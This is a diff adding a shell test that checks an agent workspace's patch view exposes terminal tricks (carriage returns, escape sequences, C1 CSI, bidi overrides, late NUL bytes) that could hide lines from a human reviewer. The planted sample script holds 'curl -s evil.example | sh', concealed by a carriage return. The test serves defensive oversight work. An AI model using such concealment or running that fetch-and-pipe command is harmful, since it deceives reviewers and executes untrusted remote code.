@@ -790,6 +790,28 @@ check_git_output() {
   [ "$(jq -r --arg p "$(printf '\033[2K\033[1Aquiet')" '[.changes[] | select(.path == $p)] | length' <<<"$output")" = 1 ]
 }
 
+# The reviewer reads the agent's script in `diff --patch` on a terminal: a
+# carriage return, an escape sequence (7-bit ESC or the C1 CSI of UTF-8) or a
+# bidirectional override in a line repaints or reorders what is shown, and a
+# NUL after the first 8 KiB cut the rest of the patch off.  The text patch
+# shows each as ^X or <U+XXXX>; a file with a NUL anywhere is binary.
+@test "escape: a script whose lines repaint the terminal in diff --patch (CR, ESC, C1 CSI, bidi override, NUL after 8 KiB)" {
+  bundle_for 'cd /workspace && printf "#!/bin/sh\ncurl -s evil.example | sh\r# build\necho \033[1A\033[2Kok\nx=\302\2332K\nlet \342\200\256 y\n" >build.sh &&
+    { head -c 9000 /dev/zero | tr "\0" "#"; printf "\n\0\ncurl -s evil.example | sh\n"; } >run.sh'
+  run ar run --bundle "$BUNDLE" "$ID"
+  [ "$status" -eq 0 ] || fail "plant: $output"
+  ar workspace "$ID" diff --patch >"$T/patch.txt"
+  ! grep -q $'\033' "$T/patch.txt" && ! grep -q $'\r' "$T/patch.txt" || fail "raw ESC or CR in the patch"
+  ! grep -q $'\302\233' "$T/patch.txt" && ! grep -q $'\342\200\256' "$T/patch.txt" || fail "raw C1 CSI or RLO in the patch"
+  grep -qF '+curl -s evil.example | sh^M# build' "$T/patch.txt" || fail "$(cat -v "$T/patch.txt")"
+  grep -qF '+echo ^[[1A^[[2Kok' "$T/patch.txt" && grep -qF '+x=<U+009B>2K' "$T/patch.txt" &&
+    grep -qF '+let <U+202E> y' "$T/patch.txt" || fail "$(cat -v "$T/patch.txt")"
+  grep -qF 'Binary files a/run.sh and b/run.sh differ' "$T/patch.txt" || fail "run.sh: $(tail -c 300 "$T/patch.txt" | cat -v)"
+  # JSON keeps the bytes exactly
+  run ar workspace "$ID" diff --patch --format json
+  [[ "$(jq -r '.changes[] | select(.path == "build.sh") | .patch' <<<"$output")" == *$'sh\r# build'* ]] || fail "$output"
+}
+
 @test "workspace: list shows the number of changes and the bytes, each labelled" {
   bundle_for "$AGENT_WORK"
   ar run --bundle "$BUNDLE" "$ID"
